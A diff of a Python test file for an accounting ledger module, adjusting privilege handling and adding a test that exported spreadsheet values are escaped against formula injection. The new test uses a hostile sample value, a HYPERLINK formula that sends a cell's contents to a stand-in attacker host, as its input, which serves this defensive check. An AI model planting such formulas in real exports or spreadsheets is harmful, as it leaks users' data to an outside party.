@@ -143,8 +143,10 @@ class TestBaseGuarded(RightsCase):
     def test_items_are_of_the_connection_and_kind(self):
         items = {item.kind: item for item in self.connection.item_ids}
         second = self.connection.copy({"name": "Second", "journal_ids": [(5,)]})
-        elsewhere = items["account"].copy(
-            {"connection_id": second.id, "remote_id": "elsewhere"}
+        elsewhere = (
+            items["account"]
+            .sudo()
+            .copy({"connection_id": second.id, "remote_id": "elsewhere"})
         )
         rule = self.ours["ledger.mapping"]
         self.refused(rule, {"item_id": items["vat"].id})
@@ -297,6 +299,26 @@ class TestBaseGuarded(RightsCase):
         with self.assertRaisesRegex(UserError, "can't be read"):
             self.connection.action_check()
 
+    # Spreadsheets
+
+    def test_names_of_the_ledger_are_no_formulas(self):
+        """In a spreadsheet of mappings, customers or the control report."""
+        words = '=HYPERLINK("https://evil.example?"&A1)'
+        item = self.ours["ledger.item"]
+        item.name = words
+        self.ours["ledger.relation"].sudo().item_id = item
+        control = self.ours["ledger.control"].sudo()
+        control.number = words
+        admin = self.env.ref("base.group_allow_export")
+        self.user_of(ADMIN).group_ids |= admin
+        for record, fields in (
+            (item, ["name"]),
+            (self.ours["ledger.relation"], ["item_id/name"]),
+            (control, ["number", "date"]),
+        ):
+            found = self.as_user(ADMIN, record).export_data(fields)["datas"][0]
+            self.assertEqual(found[0], f"'{words}")
+
     # Free fields
 
     def test_what_a_group_alone_may_see_is_not_told(self):
@@ -309,9 +331,10 @@ class TestBaseGuarded(RightsCase):
         ):
             self.refused(text, {"path": path, "value": False})
         text.write({"path": "invoice_user_id.login", "value": False})
-        move = self.invoice(invoice_user_id=self.user("clerk").id)
-        self.assertEqual(text.sudo()._tell(move), self.user("clerk").login)
+        move = self.invoice(invoice_user_id=self.user_of("clerk").id)
+        self.assertEqual(text.sudo()._tell(move), self.user_of("clerk").login)
         # A field may be gone, or kept to a group, later on.
+        self.env.flush_all()
         self.env.cr.execute(
             "UPDATE ledger_text SET path = 'invoice_user_id.totp_secret' WHERE id = %s",
             [text.id],
